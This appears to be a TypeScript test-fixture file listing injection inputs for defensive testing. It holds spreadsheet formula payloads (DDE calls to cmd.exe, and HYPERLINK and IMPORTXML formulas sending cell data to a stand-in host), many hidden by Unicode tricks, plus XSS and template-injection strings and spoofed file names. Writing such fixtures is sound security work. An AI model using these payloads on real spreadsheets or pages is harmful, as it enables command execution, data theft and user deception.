/** Texts that a spreadsheet program would run, in every disguise known; nothing stands behind them that a reader trims. */
export const FORMULA_TEXTS: readonly string[] = [
  '=1+1', '+1', '-1', '-1+1', '@SUM(A1)', '=', '==1', "'=1+1", "''=1", "'", '＝1+1', '＋1', '－1', '＠x', '﹦1', '﹢1', '﹣1', '﹫x',
  "=cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'', '@SUM(1+9)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '+cmd|\' /C notepad\'!A1',
  '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"Click")', '=IMPORTXML(CONCAT("http://elsewhere.invalid/?v=",A1),"//a")', '=WEBSERVICE("http://elsewhere.invalid")', '=IMAGE("http://elsewhere.invalid/a.png")', '="7"', '="=1"',
  ' =1+1', '  \t =1', '\t=1', '\u00a0=1', '\u3000＝1', '\ufeff=1', '\u200b=1', '\u202e=1'.replace('\u202e', '\u200f'), '\u2060+1', " '=1", '\n=1', '\nx', '\tx',
  // Cut in two where the list separator is a semicolon or a tab, or where a cell's own line ends.
  'x;=1+1', 'x; =cmd|\'/C calc\'!A0', "x;'=1", "x;''=1", '";=1+1;"', 'x\t=1+1', 'x\n=1+1', 'x\n\n-1', 'lamp;=1;+2;@3', 'x;＝1', 'a\n- first\n- second', ';=1', ";';=1",
]

/** Texts that a page would run if it took them for markup, a template or an address; each tells `hit` its number. */
export function scriptTexts(hit: (index: number) => string): readonly string[] {
  return [
    (i: number) => `<script>${hit(i)}</script>`,
    (i: number) => `<img src=x onerror="${hit(i)}">`,
    (i: number) => `"><svg onload=${hit(i)}>`,
    (i: number) => `' autofocus onfocus='${hit(i)}`,
    (i: number) => `javascript:${hit(i)}`,
    (i: number) => `</title><iframe srcdoc="<img src=x onerror=parent.${hit(i)}>">`,
    (i: number) => '${' + hit(i) + '}',
    (i: number) => '{{constructor.constructor(\'' + hit(i) + '\')()}}',
    (i: number) => `<a href="javascript:${hit(i)}">x</a>`,
    (i: number) => `<math><mi//xlink:href="data:x,<script>${hit(i)}</script>">`,
    () => '__proto__', () => '$t(plans.copyName)', () => '**bold** !!hit!!',
  ].map((write, index) => write(index))
}

/** Names that are not what they seem. */
export const DISGUISED_NAMES = { reversed: 'invoice\u202Efdp.exe', zeroWidth: 'LA\u200BMP', cyrillic: 'L\u0430mp', arabic: 'مصباح 7' } as const
